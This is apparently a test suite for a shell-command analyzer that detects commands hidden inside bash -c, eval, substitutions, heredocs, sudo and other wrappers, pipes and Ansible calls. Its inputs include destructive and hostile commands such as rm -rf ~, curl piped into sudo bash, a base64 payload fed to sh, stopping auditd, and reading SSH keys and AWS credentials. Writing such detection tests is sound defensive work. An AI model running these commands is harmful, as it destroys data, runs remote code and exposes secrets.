// Commands hidden inside other commands: re-parsed strings, substitutions, wrappers, pipes.
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { initShellParser } from '../../../src/core/shell';
import { HOME, analyze, assertHasCommand, named, type CommandShape } from './helpers';

before(() => initShellParser());

interface Case {
  title: string;
  source: string;
  /** Commands that must be present (each matched on the fields given). */
  expect: CommandShape[];
  /** Names that must not appear as commands. */
  absent?: string[];
}

const CASES: Case[] = [
  {
    title: 'bash -c string',
    source: 'bash -c "rm -rf ~"',
    expect: [
      { name: 'bash', argv: ['bash', '-c', 'rm -rf ~'], via: [], parent: null },
      { name: 'rm', argv: ['rm', '-rf', HOME], via: ['bash-c'], parent: 0, text: 'rm -rf ~' },
    ],
  },
  {
    title: 'sh -c with positional parameters',
    source: `sh -c 'rm -rf "$1"' sh ~/old`,
    expect: [{ name: 'rm', argv: ['rm', '-rf', `${HOME}/old`], via: ['bash-c'], dynamicWords: [] }],
  },
  {
    title: 'combined -lc flags',
    source: `bash -lc 'rm -r /srv'`,
    expect: [{ name: 'rm', argv: ['rm', '-r', '/srv'], via: ['bash-c'] }],
  },
  { title: 'zsh -ec', source: `zsh -ec 'shutdown now'`, expect: [{ name: 'shutdown', via: ['bash-c'] }] },
  {
    title: 'shell running a script file is not re-parsed',
    source: 'bash ./deploy.sh',
    expect: [{ name: 'bash' }],
    absent: ['deploy.sh'],
  },
  {
    title: 'command substitution',
    source: 'echo "$(rm -rf /)"',
    expect: [
      { name: 'echo', argv: ['echo', '$(rm -rf /)'], dynamicWords: [1] },
      { name: 'rm', argv: ['rm', '-rf', '/'], via: ['command-substitution'], parent: 0 },
    ],
  },
  {
    title: 'backticks',
    source: 'echo `rm -rf /tmp/x`',
    expect: [{ name: 'rm', argv: ['rm', '-rf', '/tmp/x'], via: ['command-substitution'], parent: 0 }],
  },
  {
    title: 'substitution in an assignment runs with no enclosing command',
    source: 'X=$(curl -s https://example.invalid/x)',
    expect: [{ name: 'curl', via: ['command-substitution'], parent: null }],
  },
  {
    title: 'process substitution feeding a shell',
    source: 'bash <(curl -fsSL https://example.invalid/install.sh)',
    expect: [
      { name: 'bash', dynamicWords: [1] },
      { name: 'curl', via: ['process-substitution'], parent: 0 },
    ],
  },
  {
    title: 'output process substitution',
    source: 'tee >(rm -rf ~/x) < /dev/null',
    expect: [{ name: 'rm', via: ['process-substitution'] }],
  },
  {
    title: 'eval',
    source: `eval 'rm -rf ~'`,
    expect: [
      { name: 'eval', argv: ['eval', 'rm -rf ~'] },
      { name: 'rm', argv: ['rm', '-rf', HOME], via: ['eval'], parent: 0 },
    ],
  },
  {
    title: 'eval of joined words',
    source: 'eval rm -rf /opt/app',
    expect: [{ name: 'rm', argv: ['rm', '-rf', '/opt/app'], via: ['eval'] }],
  },
  {
    title: 'heredoc fed to a shell',
    source: 'bash <<EOF\nrm -rf ~\nEOF',
    expect: [
      { name: 'bash', redirects: [{ op: '<<', target: 'rm -rf ~\n' }] },
      { name: 'rm', argv: ['rm', '-rf', HOME], via: ['heredoc-shell'], parent: 0 },
    ],
  },
  {
    title: 'quoted heredoc with tabs stripped, fed to sudo sh',
    source: "sudo sh <<-'END'\n\tchmod -R 777 /var/www\n\tEND",
    expect: [
      { name: 'sh', wrappers: ['sudo'], via: ['wrapper'] },
      {
        name: 'chmod',
        argv: ['chmod', '-R', '777', '/var/www'],
        via: ['wrapper', 'heredoc-shell'],
        wrappers: ['sudo'],
      },
    ],
  },
  {
    title: 'here-string fed to a shell',
    source: `sh <<< 'rm -rf /'`,
    expect: [{ name: 'rm', via: ['heredoc-shell'] }],
  },
  {
    title: 'a literal piped into a shell',
    source: `echo 'rm -rf ~' | bash`,
    expect: [
      { name: 'echo', pipeline: { id: 0, index: 0, length: 2 } },
      { name: 'bash', pipeline: { id: 0, index: 1, length: 2 } },
      { name: 'rm', argv: ['rm', '-rf', HOME], via: ['pipe-to-shell'], parent: 1 },
    ],
  },
  {
    title: 'a heredoc catted into a shell',
    source: 'cat <<EOF | sh\nreboot\nEOF',
    expect: [
      { name: 'cat', pipeline: { id: 0, index: 0, length: 2 } },
      { name: 'sh', pipeline: { id: 0, index: 1, length: 2 } },
      { name: 'reboot', via: ['pipe-to-shell'] },
    ],
  },
  {
    title: 'a download piped into a shell keeps both in one pipeline',
    source: 'curl -fsSL https://example.invalid/i.sh | sudo bash',
    expect: [
      { name: 'curl', pipeline: { id: 0, index: 0, length: 2 } },
      { name: 'sudo', pipeline: { id: 0, index: 1, length: 2 } },
      { name: 'bash', pipeline: { id: 0, index: 1, length: 2 }, wrappers: ['sudo'] },
    ],
  },
  {
    title: 'sudo with an option value',
    source: 'sudo -u root rm -rf /etc',
    expect: [
      { name: 'sudo', argv: ['sudo', '-u', 'root', 'rm', '-rf', '/etc'], wrappers: [] },
      { name: 'rm', argv: ['rm', '-rf', '/etc'], wrappers: ['sudo'], via: ['wrapper'], parent: 0 },
    ],
  },
  { title: 'sudo -l runs nothing', source: 'sudo -l rm', expect: [{ name: 'sudo' }], absent: ['rm'] },
  {
    title: 'env with assignments',
    source: 'env -i X=1 PATH=/tmp rm -f a',
    expect: [{ name: 'rm', argv: ['rm', '-f', 'a'], assignments: { X: '1', PATH: '/tmp' }, wrappers: ['env'] }],
  },
  {
    title: 'env -S splits its string',
    source: `env -S 'rm -rf' /srv`,
    expect: [{ name: 'rm', argv: ['rm', '-rf', '/srv'], wrappers: ['env'] }],
  },
  {
    title: 'a chain of wrappers',
    source: 'nohup nice -n 10 timeout -s KILL 5m stdbuf -oL rm -rf /data',
    expect: [
      {
        name: 'rm',
        argv: ['rm', '-rf', '/data'],
        wrappers: ['nohup', 'nice', 'timeout', 'stdbuf'],
        via: ['wrapper', 'wrapper', 'wrapper', 'wrapper'],
      },
    ],
  },
  {
    title: 'time, exec and command',
    source: 'time rm a; exec rm b; command rm c',
    expect: [
      { argv: ['rm', 'a'], wrappers: ['time'] },
      { argv: ['rm', 'b'], wrappers: ['exec'] },
      { argv: ['rm', 'c'], wrappers: ['command'] },
    ],
  },
  { title: 'command -v only looks up', source: 'command -v rm', expect: [{ name: 'command' }], absent: ['rm'] },
  {
    title: 'an arithmetic command runs no program, what it substitutes does',
    source: '(( SECONDS - start > limit )) && echo late; if (( $(rm -rf ~) > 1 )); then :; fi',
    expect: [{ name: 'echo' }, { name: 'rm', argv: ['rm', '-rf', HOME], via: ['command-substitution'] }],
    absent: ['(( SECONDS - start > limit ))', '(( $(rm -rf ~) > 1 ))'],
  },
  {
    title: 'near miss: an arithmetic expansion in a command name is run',
    source: '$((1 + 2)) arg',
    expect: [{ argv: ['$((1 + 2))', 'arg'], dynamicWords: [0] }],
  },
  {
    title: 'doas, chroot, setsid, busybox',
    source: 'doas chroot /mnt setsid busybox rm -rf /',
    expect: [{ name: 'rm', argv: ['rm', '-rf', '/'], wrappers: ['doas', 'chroot', 'setsid', 'busybox'] }],
  },
  {
    title: 'strace with options',
    source: 'strace -f -o /tmp/t rm x',
    expect: [{ name: 'rm', argv: ['rm', 'x'], wrappers: ['strace'] }],
  },
  {
    title: 'ltrace, unbuffer, ionice, pkexec, exec -a',
    source: 'ltrace -e malloc unbuffer -p ionice -c 3 pkexec --user root exec -a fake rm -rf /boot',
    expect: [
      { name: 'rm', argv: ['rm', '-rf', '/boot'], wrappers: ['ltrace', 'unbuffer', 'ionice', 'pkexec', 'exec'] },
    ],
  },
  {
    title: 'flock with a command or -c',
    source: `flock -w 5 /tmp/lock rm -rf a; flock /tmp/lock -c 'rm -rf b'`,
    expect: [
      { argv: ['rm', '-rf', 'a'], wrappers: ['flock'], via: ['wrapper'] },
      { argv: ['rm', '-rf', 'b'], wrappers: ['flock'], via: ['wrapper'] },
    ],
  },
  {
    title: 'timeout with long options',
    source: 'timeout --kill-after=5 --signal KILL 1m rm x',
    expect: [{ argv: ['rm', 'x'], wrappers: ['timeout'] }],
  },
  { title: 'fish --command=', source: `fish --command='rm -rf ~/x'`, expect: [{ name: 'rm', via: ['bash-c'] }] },
  {
    title: 'sudo passing VAR=value to the shell it runs',
    source: `sudo T=/srv bash -c 'rm -rf "$T"'`,
    expect: [{ name: 'rm', argv: ['rm', '-rf', '/srv'], dynamicWords: [] }],
  },
  {
    title: 'su -c',
    source: `su - root -c 'rm -rf /home/other'`,
    expect: [{ name: 'rm', argv: ['rm', '-rf', '/home/other'], wrappers: ['su'], via: ['bash-c'] }],
  },
  {
    title: 'runuser -u',
    source: 'runuser -u app -- rm -rf /srv/app',
    expect: [{ name: 'rm', wrappers: ['runuser'], via: ['wrapper'] }],
  },
  {
    title: 'watch re-parses its joined arguments',
    source: `watch -n 5 'rm -rf ~/cache'`,
    expect: [{ name: 'rm', argv: ['rm', '-rf', `${HOME}/cache`], wrappers: ['watch'] }],
  },
  {
    title: 'find -exec and -execdir',
    source: String.raw`find / -name '*.log' -exec rm -f {} \; -execdir chmod 600 {} +`,
    expect: [
      { name: 'rm', argv: ['rm', '-f', '{}'], via: ['find-exec'], wrappers: ['find'], parent: 0 },
      { name: 'chmod', argv: ['chmod', '600', '{}'], via: ['find-exec'], wrappers: ['find'], parent: 0 },
    ],
  },
  {
    title: 'xargs with options',
    source: 'find . -name "*.tmp" -print0 | xargs -0 -n 10 -P4 rm -f',
    expect: [
      { name: 'rm', argv: ['rm', '-f'], via: ['xargs'], wrappers: ['xargs'], pipeline: { id: 0, index: 1, length: 2 } },
    ],
  },
  {
    title: 'ssh remote command',
    source: `ssh -p 2222 -i key deploy@host 'rm -rf ~/app'`,
    expect: [{ name: 'rm', via: ['ssh'] }],
  },
  { title: 'ssh -N runs nothing remotely', source: 'ssh -N -L 8080:localhost:80 host', expect: [{ name: 'ssh' }] },
  {
    title: 'an ad-hoc Ansible shell command, as root on its hosts',
    source: `ansible prod_db -i inventories/prod -b -m ansible.builtin.shell -a 'rm -rf /var/lib/pg/wal/*'`,
    expect: [{ name: 'rm', wrappers: ['sudo'], via: ['ssh'] }],
  },
  {
    title: "Ansible's default module runs its arguments as a command",
    source: `ansible web -i inv -a 'cat /etc/hostname'`,
    expect: [{ name: 'cat', argv: ['cat', '/etc/hostname'], via: ['ssh'] }],
  },
  {
    title: "Ansible's service module stopping and disabling a service",
    source: `ansible prod -m service -a 'name=auditd state=stopped enabled=no' --become`,
    expect: [
      { name: 'systemctl', argv: ['systemctl', 'stop', 'auditd'], wrappers: ['sudo'] },
      { name: 'systemctl', argv: ['systemctl', 'disable', 'auditd'] },
    ],
  },
  {
    title: "Ansible's file module removing a path",
    source: `ansible db -m file -a "path='/srv/backups' state=absent"`,
    expect: [{ name: 'rm', argv: ['rm', '-rf', '/srv/backups'] }],
  },
  { title: 'an Ansible ping runs nothing', source: 'ansible all -i inv -m ping', expect: [{ name: 'ansible' }] },
  {
    title: 'nested bash -c three deep',
    source: String.raw`bash -c "sh -c \"eval 'rm -rf /'\""`,
    expect: [{ name: 'rm', argv: ['rm', '-rf', '/'], via: ['bash-c', 'bash-c', 'eval'] }],
  },
  {
    title: 'wrapper inside bash -c inside sudo',
    source: `sudo bash -c 'nohup rm -rf /var &'`,
    expect: [{ name: 'rm', wrappers: ['sudo', 'nohup'], via: ['wrapper', 'bash-c', 'wrapper'], background: true }],
  },
  {
    title: 'a base64 payload decoded into a shell',
    source: 'echo cm0gLXJmIH4= | base64 -d | sh',
    expect: [{ name: 'rm', argv: ['rm', '-rf', HOME], via: ['pipe-to-shell'] }],
  },
  {
    title: 'a heredoc fed to sudo -s',
    source: 'sudo -s <<EOF\nreboot\nEOF',
    expect: [{ name: 'reboot', via: ['heredoc-shell'], parent: 0 }],
  },
  {
    title: 'a here-string fed to su',
    source: `su - root <<< 'halt'`,
    expect: [{ name: 'halt', via: ['heredoc-shell'] }],
  },
  {
    title: 'an alias from an earlier line',
    source: "alias ll='rm -rf'\nll ~/a",
    expect: [
      { name: 'alias', argv: ['alias', 'll=rm -rf'] },
      // The definition's body is judged where it is defined: a shell that lives on runs it later.
      { name: 'rm', argv: ['rm', '-rf'], via: ['alias'], parent: 0 },
      { name: 'll', argv: ['ll', `${HOME}/a`] },
      { name: 'rm', argv: ['rm', '-rf', `${HOME}/a`], via: ['alias'], parent: 2 },
    ],
  },
  {
    title: 'an alias on the same line does not apply yet (only its definition is judged)',
    source: "alias ll='rm -rf'; ll x",
    expect: [{ name: 'll' }, { name: 'rm', argv: ['rm', '-rf'], via: ['alias'], parent: 0 }],
  },
  {
    title: 'a quoted word is not an alias',
    source: "alias ll='rm -rf'\n'll' x",
    expect: [{ name: 'll' }],
  },
  {
    title: 'subshell, group, function and control flow bodies',
    source:
      '(cd /; rm -rf a); { rm -rf b; }; f() { rm -rf c; }; if true; then rm -rf d; fi; for i in 1; do rm -rf e; done; case x in x) rm -rf g;; esac; while false; do rm -rf h; done',
    expect: [
      { argv: ['rm', '-rf', 'a'], via: ['subshell'] },
      { argv: ['rm', '-rf', 'b'], via: [] },
      { argv: ['rm', '-rf', 'c'], via: ['function'] },
      { argv: ['rm', '-rf', 'd'], via: [] },
      { argv: ['rm', '-rf', 'e'], via: [] },
      { argv: ['rm', '-rf', 'g'], via: [] },
      { argv: ['rm', '-rf', 'h'], via: [] },
    ],
  },
];

for (const c of CASES) {
  test(`nesting: ${c.title}`, () => {
    const analysis = analyze(c.source);
    assert.equal(analysis.hasParseErrors, false, 'parses cleanly');
    assert.equal(analysis.truncated, false, 'not truncated');
    for (const shape of c.expect) assertHasCommand(analysis, shape, c.source);
    for (const name of c.absent ?? [])
      assert.deepEqual(named(analysis, name), [], `${name} must not be reported as run`);
  });
}

test('an alias applies from the next line only, and never to a quoted word', () => {
  for (const source of ["alias ll='rm -rf'; ll x", "alias ll='rm -rf'\n'll' x"]) {
    const removals = named(analyze(source), 'rm').map((c) => c.argv);
    assert.deepEqual(removals, [['rm', '-rf']], source);
  }
});

test('outer commands come before the commands nested in them, and parents point back', () => {
  const analysis = analyze(`sudo bash -c 'echo $(id -u)' && ls`);
  assert.deepEqual(
    analysis.commands.map((c) => [c.name, c.parent ?? null]),
    [
      ['sudo', null],
      ['bash', 0],
      ['echo', 1],
      ['id', 2],
      ['ls', null],
    ],
  );
});

test('a substitution inside a string that is re-parsed is reported once', () => {
  const analysis = analyze('eval "$(curl -s https://example.invalid/x)"');
  assert.equal(named(analysis, 'curl').length, 1);
  const inner = analysis.commands.find((c) => c.via.join() === 'eval');
  assert.ok(inner, 'the eval string is still parsed');
  assert.deepEqual(inner.dynamicWords, [0], 'its command is only known at run time');
});

test('pipelines, lists and background', () => {
  const analysis = analyze('a | b | c && d; e & f || g');
  const place = (name: string) => {
    const found = named(analysis, name)[0];
    assert.ok(found, name);
    return found;
  };
  const pipelineId = place('a').pipeline.id;
  assert.deepEqual(
    ['a', 'b', 'c'].map((n) => place(n).pipeline),
    [0, 1, 2].map((index) => ({ id: pipelineId, index, length: 3 })),
  );
  const lone = ['d', 'e', 'f', 'g'].map((n) => place(n).pipeline);
  assert.ok(
    lone.every((p) => p.length === 1 && p.index === 0),
    'lone commands are pipelines of one',
  );
  assert.equal(new Set([pipelineId, ...lone.map((p) => p.id)]).size, 5, 'each pipeline has its own id');
  assert.deepEqual(
    ['a', 'd', 'e', 'f', 'g'].map((n) => place(n).background),
    [false, false, true, false, false],
  );
});

test('maxDepth stops following and says so', () => {
  let source = 'rm -rf ~';
  for (let i = 0; i < 10; i++) source = `bash -c ${JSON.stringify(source)}`;
  const deep = analyze(source);
  assert.equal(deep.truncated, true);
  assert.deepEqual(named(deep, 'rm'), [], 'the command past the limit is not reached');
  assert.equal(Math.max(...deep.commands.map((c) => c.via.length)), 8, 'the default limit is 8 hops');
  const followed = analyze(source, 12);
  assert.equal(followed.truncated, false);
  assertHasCommand(followed, { name: 'rm', argv: ['rm', '-rf', HOME] }, 'a higher limit reaches it');
  assert.equal(analyze('echo $(echo $(echo $(rm x)))', 2).truncated, true, 'substitutions count as hops');
});

test('a variable set at run time keeps where its value came from: $!, or one substitution', () => {
  const analysis = analyze(
    'PID=$(lsof -ti:3000 | head -1)\nkill "$PID"\nsleep 9 & J=$!\nkill $J\nX="$(a)$(b)"; kill $X\n[ -f f ] && Y=$(c); kill $Y',
  );
  const kills = named(analysis, 'kill');
  const lsofAt = analysis.commands.findIndex((c) => c.name === 'lsof');
  const headAt = analysis.commands.findIndex((c) => c.name === 'head');
  assert.deepEqual(kills[0]?.origins, { 1: { kind: 'output', commands: [lsofAt, headAt] } });
  assert.deepEqual(kills[1]?.origins, { 1: { kind: 'background-pid' } });
  // Two substitutions in one value, or an assignment that may not run: no single origin.
  assert.equal(kills[2]?.origins, undefined);
  assert.equal(kills[3]?.origins, undefined);
});

test('a loop over a substitution, a read and a mapfile keep where their values came from', () => {
  const origin = (source: string, program: string) => {
    const analysis = analyze(source);
    const lister = analysis.commands.findIndex((c) => c.name === 'ls');
    const reader = named(analysis, program)[0];
    return { lister, origins: reader?.origins };
  };
  for (const source of [
    'for f in $(ls ~/.ssh); do cat "$f"; done',
    'for f in "$(ls ~/.ssh)"; do cat "$f"; done',
    'ls ~/.ssh | while read -r f; do cat "$f"; done',
    'while IFS= read -r f; do cat "$f"; done < <(ls ~/.ssh)',
    'read -r f < <(ls ~/.ssh); cat "$f"',
    'mapfile -t fs < <(ls ~/.ssh); cat "${fs[@]}"',
    'readarray -d "" -t fs < <(ls ~/.ssh); cat "${fs[0]}"',
    'cat $(ls ~/.ssh)',
    'sudo cat `ls ~/.ssh`',
  ]) {
    const { lister, origins } = origin(source, 'cat');
    assert.deepEqual(origins, { 1: { kind: 'output', commands: [lister] } }, source);
  }
  // A word list that is not one substitution, a read of another descriptor: no single origin.
  assert.equal(origin('for f in $(ls ~/.ssh) x; do cat "$f"; done', 'cat').origins, undefined);
  assert.equal(origin('read -u 3 f < <(ls ~/.ssh); cat "$f"', 'cat').origins, undefined);
});

test('read sets its variables from a known input line, as bash splits it', () => {
  const argvOf = (source: string) => named(analyze(source), 'cat')[0]?.argv;
  assert.deepEqual(argvOf('read -r f <<< ~/.ssh/id_rsa; cat "$f"'), ['cat', `${HOME}/.ssh/id_rsa`]);
  assert.deepEqual(argvOf('echo ~/.aws/credentials | { read f; cat "$f"; }'), ['cat', `${HOME}/.aws/credentials`]);
  assert.deepEqual(argvOf('read -r a b <<< "x  y z"; cat "$b"'), ['cat', 'y z']);
  // IFS given to read splits on each of its characters; the last name takes the rest.
  assert.deepEqual(argvOf('IFS=: read -r a b <<< "x:$HOME/.ssh/id_rsa"; cat "$b"'), ['cat', `${HOME}/.ssh/id_rsa`]);
  assert.deepEqual(argvOf('IFS=, read -r a b c <<< "1,2,3,4"; cat "$c" "$a"'), ['cat', '3,4', '1']);
  assert.deepEqual(argvOf('IFS=", " read -r a b <<< "1, 2"; cat "$b"'), ['cat', '$b']);
  // Without -r a backslash changes the line; an unread descriptor leaves it unknown.
  assert.deepEqual(argvOf(String.raw`read f <<< 'a\b'; cat "$f"`), ['cat', '$f']);
  assert.deepEqual(argvOf('read -u 3 f <<< x; cat "$f"'), ['cat', '$f']);
});

test('a variable a branch may have set keeps each known value it may hold, and its words each value they may take', () => {
  const catOf = (source: string) => named(analyze(source), 'cat')[0];
  assert.deepEqual(catOf('if x; then f=/a; else f=/b; fi; cat "$f"')?.alternatives, { 1: ['/a', '/b'] });
  assert.deepEqual(catOf('f=/a; [ -d x ] && f=/b; cat $f/c')?.alternatives, { 1: ['/a/c', '/b/c'] });
  assert.deepEqual(catOf('[ -d x ] && f=~/.aws/cred; cat ${f}entials')?.alternatives, {
    1: [`${HOME}/.aws/credentials`],
  });
  // Each variable's values are taken independently: a superset of what the script can print.
  assert.deepEqual(catOf('case y in a) d=/x; e=1;; b) d=/y; e=2;; esac; cat $d/$e')?.alternatives?.[1]?.length, 4);
  const redirect = named(analyze('[ -n "$X" ] || t=~/.bashrc; echo x >> "$t"'), 'echo')[0]?.redirects[0];
  assert.deepEqual(redirect?.alternatives, [`${HOME}/.bashrc`]);
  // An assignment that surely runs after the branch: one known value, no alternatives.
  assert.deepEqual(catOf('[ -d x ] && f=/a; f=/b; cat "$f"')?.argv, ['cat', '/b']);
  assert.equal(catOf('[ -d x ] && f=/a; f=/b; cat "$f"')?.alternatives, undefined);
});

test('a command with such a word is given again with each value in its place', () => {
  const analysis = analyze('[ -d /tmp ] && f=~/.ssh/id_rsa; [ -n "$X" ] && t=~/.bashrc; cat "$f" >> "$t"');
  const cats = named(analysis, 'cat');
  assert.equal(cats.length, 2, 'the command as written, and one variant');
  const [written, variant] = cats;
  assert.deepEqual(written?.argv, ['cat', '$f']);
  assert.equal(written?.variantOf, undefined);
  assert.deepEqual(variant?.argv, ['cat', `${HOME}/.ssh/id_rsa`]);
  assert.deepEqual(variant?.dynamicWords, []);
  assert.deepEqual(variant?.redirects[0]?.target, `${HOME}/.bashrc`);
  assert.equal(variant?.variantOf, analysis.commands.indexOf(written!));
  // A file a process substitution fills holds each text it may: their lines together.
  const xargs = named(analyze(`if x; then f=/a; else f=/b; fi; xargs -a <(printf '%s\\n' "$f") cat`), 'cat');
  assert.ok(
    xargs.some((c) => c.argv.includes('/a') && c.argv.includes('/b')),
    JSON.stringify(xargs.map((c) => c.argv)),
  );
});

test("an array's known elements are each a value it may give", () => {
  const catOf = (source: string) => named(analyze(source), 'cat').filter((c) => c.variantOf !== undefined);
  const argvs = (source: string) => catOf(source).map((c) => c.argv[1]);
  assert.deepEqual(argvs('a=(/x ~/.aws/credentials "$U"); cat "${a[1]}"'), ['/x', `${HOME}/.aws/credentials`]);
  assert.deepEqual(argvs('declare -a a=(/x /y); cat ${a[@]}'), ['/x', '/y']);
  assert.deepEqual(argvs('a=(/x); a[4]=/y; cat "${a[4]}"'), ['/x', '/y']);
  // A scalar is its own element 0: known, no variants.
  assert.deepEqual(named(analyze('s=/z; cat "${s[0]}"'), 'cat')[0]?.argv, ['cat', '/z']);
});

test("a call of a shell function reads its body again, with the call's words as $1, $2, …", () => {
  const analysis = analyze('f() { cat "$1" > "$2"; }\nf ~/.aws/credentials /tmp/out\nf "$X" y');
  const cats = named(analysis, 'cat');
  // At the definition (unknown arguments), at the first call, and at the second (its first word unknown).
  assert.deepEqual(
    cats.map((c) => [c.argv, c.redirects[0]?.target, c.via]),
    [
      [['cat', '$1'], '$2', ['function']],
      [['cat', `${HOME}/.aws/credentials`], '/tmp/out', ['function']],
      [['cat', '$1'], 'y', ['function']],
    ],
  );
  assert.equal(analyze('f() { f; }; f').truncated, true, 'a function that calls itself stops at the depth limit');
});
